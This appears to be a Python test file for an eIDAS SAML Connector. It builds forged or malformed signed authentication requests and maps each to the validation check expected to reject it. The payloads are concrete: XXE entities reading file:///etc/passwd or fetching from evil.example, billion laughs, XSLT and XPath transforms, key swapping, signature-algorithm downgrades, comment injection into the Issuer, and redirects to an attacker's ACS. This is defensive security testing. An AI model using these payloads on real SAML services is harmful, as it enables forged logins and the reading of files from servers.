"""What an attacker does to a request's signature, to its content, and to its octets."""

from collections.abc import Callable

from cryptography.hazmat.primitives import hmac
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.hashes import SHA1, SHA256
from lxml import etree

from eidas import xml
from eidas.algorithms import EXCLUSIVE_C14N
from eidas.xml import Element
from tests.eidas.attacks.connector import RSA, SIGNER, STRANGER, Attacks, evil, fragment, genuine, unsigned
from tests.eidas.exchange import ACS, Change, find, setting

MORE = "http://www.w3.org/2001/04/xmldsig-more#"
PAST, FUTURE = "2026-09-21T12:00:00Z", "2026-09-21T16:00:00Z"

# -- the signature's own words ----------------------------------------------------------------------------------------

INFO = "ds:Signature/ds:SignedInfo"
REFERENCE = f"{INFO}/ds:Reference"


def resigned(change: Change, sign: Callable[[bytes], bytes] = SIGNER.sign) -> Element:
    """A request whose SignedInfo was changed before the Connector signed it."""
    root = genuine()
    change(root)
    find(root, "ds:Signature/ds:SignatureValue").text = xml.encoded(sign(xml.canonical(find(root, INFO))))
    return root


def algorithm(path: str, uri: str, sign: Callable[[bytes], bytes] = SIGNER.sign) -> Element:
    return resigned(setting(f"{INFO}/{path}", "Algorithm", uri), sign)


def first_transform(text: str) -> Element:
    return resigned(lambda root: find(root, f"{REFERENCE}/ds:Transforms").insert(0, fragment(text)))


def by_hmac(data: bytes) -> bytes:
    """A MAC whose key is the certificate."""
    made = hmac.HMAC(SIGNER.certificate, SHA256())
    made.update(data)
    return made.finalize()


def pkcs1(algorithm: SHA1 | SHA256) -> Callable[[bytes], bytes]:
    return lambda data: RSA.sign(data, padding.PKCS1v15(), algorithm)


def keyinfo(lie: bool) -> Element:
    """Signed by another key, whose certificate stands in KeyInfo; or the Connector's does."""
    root = genuine(signer=STRANGER)
    if lie:
        find(root, "ds:Signature/ds:KeyInfo/ds:X509Data/ds:X509Certificate").text = xml.encoded(SIGNER.certificate)
    return root


def retrieval() -> Element:
    """Signed by another key, which KeyInfo says where to fetch."""
    root = keyinfo(lie=False)
    method = fragment('<ds:RetrievalMethod URI="https://evil.example/key"/>')
    find(root, "ds:Signature/ds:KeyInfo")[:] = [method]
    return root


XSLT = """<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet version="1.0"
 xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"/></xsl:stylesheet></ds:Transform>"""
XPATH = """<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116">
<ds:XPath>not(ancestor-or-self::saml2p:Extensions)</ds:XPath></ds:Transform>"""
BASE64 = f'<ds:Transform Algorithm="{xml.DS}base64"/>'


# -- what is in it ----------------------------------------------------------------------------------------------------


def commented(path: str, change: Callable[..., Element] = genuine) -> Element:
    """A request with a comment in the middle of a text, put there after it was signed."""
    root = change()
    target = find(root, path)
    said = target.text or ""
    target.text, comment = said[:12], etree.Comment("x")
    comment.tail = said[12:]
    target.append(comment)
    return root


def longer_issuer(root: Element) -> None:
    """A name that begins with the Connector's, and a comment behind that."""
    issuer, comment = find(root, "saml2:Issuer"), etree.Comment("x")
    comment.tail = ".evil.example"
    issuer.append(comment)


def nested() -> Element:
    root = genuine()
    deepest = find(root, "saml2p:Extensions")
    for _ in range(40):
        deepest = etree.SubElement(deepest, "{urn:x}x")
    return root


def located() -> Element:
    """A request that names the schema by which it wants to be judged."""
    name = f"{{{xml.XSI}}}schemaLocation"
    return genuine(lambda root: root.set(name, "urn:x file:///etc/passwd http://evil.example/ http://evil.example/x.xsd"))


def before(text: str) -> bytes:
    return text.encode() + xml.write(genuine())


def replaced(old: bytes, new: bytes) -> bytes:
    return xml.write(genuine()).replace(old, new)


def stated(name: str, value: str) -> Element:
    return genuine(setting(".", name, value))


BILLION = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'

SIGNED: Attacks = {
    "unsigned": (unsigned, "check_one_signature"),
    "evil": (evil, "check_one_signature"),
    "XSLT transform": (lambda: first_transform(XSLT), "check_transforms"),
    "XPath transform": (lambda: first_transform(XPATH), "check_transforms"),
    "base64 transform": (lambda: first_transform(BASE64), "check_transforms"),
    "external reference": (
        lambda: resigned(setting(REFERENCE, "URI", "https://evil.example/a")),
        "check_reference",
    ),
    "file reference": (lambda: resigned(setting(REFERENCE, "URI", "file:///etc/passwd")), "check_reference"),
    "XPointer reference": (lambda: resigned(setting(REFERENCE, "URI", "#xpointer(/)")), "check_reference"),
    "KeyInfo swap": (lambda: keyinfo(lie=False), "check_verified"),
    "certificate of another": (lambda: keyinfo(lie=True), "check_verified"),
    "key by RetrievalMethod": (retrieval, "check_verified"),
    "empty canonicalisation": (lambda: algorithm("ds:CanonicalizationMethod", ""), "check_canonicalization"),
    "canonicalisation with comments": (
        lambda: algorithm("ds:CanonicalizationMethod", f"{EXCLUSIVE_C14N}WithComments"),
        "check_canonicalization",
    ),
    "downgrade to RSA-SHA1": (
        lambda: algorithm("ds:SignatureMethod", f"{xml.DS}rsa-sha1", pkcs1(SHA1())),
        "check_deviations",
    ),
    "downgrade to PKCS1": (
        lambda: algorithm("ds:SignatureMethod", f"{MORE}rsa-sha256", pkcs1(SHA256())),
        "check_deviations",
    ),
    "downgrade to HMAC by the certificate": (
        lambda: algorithm("ds:SignatureMethod", f"{MORE}hmac-sha256", by_hmac),
        "check_signature_method",
    ),
    "downgrade of the digest": (lambda: algorithm("ds:Reference/ds:DigestMethod", f"{xml.DS}sha1"), "check_deviations"),
    "changed content": (lambda: replaced(b"Comune di Roma", b"EVIL"), "check_verified"),
    "comment in Issuer": (lambda: commented("saml2:Issuer"), ""),
    "comment in RequesterID": (lambda: commented("saml2p:Scoping/saml2p:RequesterID"), ""),
    "comment that cuts an Issuer": (lambda: genuine(longer_issuer), "check_issuer"),
    "comment in ProviderName": (
        lambda: replaced(b"Comune di Roma", b"Comune<!-- -->di Roma"),
        "not well-formed XML (line 1)",
    ),
    "schema location": (located, ""),
    "deeply nested": (nested, "check_depth"),
    "document type": (lambda: before("<!DOCTYPE a>"), "check_no_doctype"),
    "entity": (lambda: before('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), "check_no_doctype"),
    "parameter entity": (
        lambda: before('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>'),
        "check_no_doctype",
    ),
    "billion laughs": (lambda: before(BILLION), "check_no_doctype"),
    "another encoding": (lambda: before('<?xml version="1.0" encoding="UTF-16"?>'), "check_utf8"),
    "stale": (lambda: stated("IssueInstant", PAST), "check_instant"),
    "from the future": (lambda: stated("IssueInstant", FUTURE), "check_instant"),
    "for another endpoint": (lambda: stated("Destination", "https://node.it.example/sso"), "check_destination"),
    "answer to another": (lambda: stated("AssertionConsumerServiceURL", "https://evil.example/acs"), "check_acs"),
    "answer to a neighbour": (lambda: stated("AssertionConsumerServiceURL", f"{ACS}.evil.example"), "check_acs"),
}
